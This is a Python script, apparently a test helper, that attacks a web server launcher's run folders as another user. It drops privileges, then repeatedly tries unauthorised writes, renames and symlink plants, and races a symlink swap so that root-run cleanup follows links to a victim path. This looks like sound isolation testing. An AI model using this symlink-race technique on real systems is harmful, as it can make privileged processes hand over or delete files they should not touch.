"""Attack a run as another user: a script, `attacker.py UID GID VICTIM FOLDER…`, until killed.

It looks for new places of servers in the folders (the run's own, no others') without a pause. It
tries to write, to rename and to plant links where it should not be able to, and says each success
in a line. Where it may write it swaps a folder for a link to VICTIM and back, so that whoever
walks through as root, to give files away or to remove them, goes astray if he follows links.
"""

import contextlib
import os
import sys

_OWN = ("tmp", "state")
"""What the server's user may write in."""


def attack(victim: str, runs: list[str]) -> None:
    """Try for ever."""
    won: set[str] = set()
    while True:
        for run in runs:
            for place in _names(run):
                _attack_place(f"{run}/{place}", victim, won)
            _try(won, "plant in the run's folder", os.symlink, victim, f"{run}/planted")


def _attack_place(place: str, victim: str, won: set[str]) -> None:
    if not os.path.isdir(place):  # noqa: PTH112 - nothing but os is loaded, so that it is quick
        return
    _try(won, "write httpd.conf", _append, f"{place}/httpd.conf")
    _try(won, "plant a link", os.symlink, victim, f"{place}/planted")
    _try(won, "rename the place", os.rename, place, f"{place}-mine")
    for name in _names(place):
        if name not in _OWN:
            _try(won, f"rename {name}", os.rename, f"{place}/{name}", f"{place}/{name}.old")
    for name in _names(f"{place}/site"):
        _try(won, f"rename site/{name}", os.rename, f"{place}/site/{name}", f"{place}/site/x")
    _try(won, "rename the writable folder", os.rename, f"{place}/state", f"{place}/tmp/state")
    inner = f"{place}/state/inner"
    with contextlib.suppress(OSError):
        os.mkdir(inner)  # noqa: PTH102
    for _ in range(3):
        with contextlib.suppress(OSError):
            os.rename(inner, f"{inner}.old")  # noqa: PTH104
            os.symlink(victim, inner)  # noqa: PTH211
            os.unlink(inner)  # noqa: PTH108
            os.rename(f"{inner}.old", inner)  # noqa: PTH104


def _try(won: set[str], name: str, action, *arguments: str) -> None:
    try:
        action(*arguments)
    except OSError:
        return
    if name not in won:
        won.add(name)
        print(name, flush=True)


def _append(path: str) -> None:
    handle = os.open(path, os.O_WRONLY | os.O_APPEND)
    os.close(handle)


def _names(folder: str) -> list[str]:
    try:
        return os.listdir(folder)  # noqa: PTH208
    except OSError:
        return []


if __name__ == "__main__":
    user, group = int(sys.argv[1]), int(sys.argv[2])
    os.setgroups([])
    os.setresgid(group, group, group)
    os.setresuid(user, user, user)
    print("ready", flush=True)
    attack(sys.argv[3], sys.argv[4:])
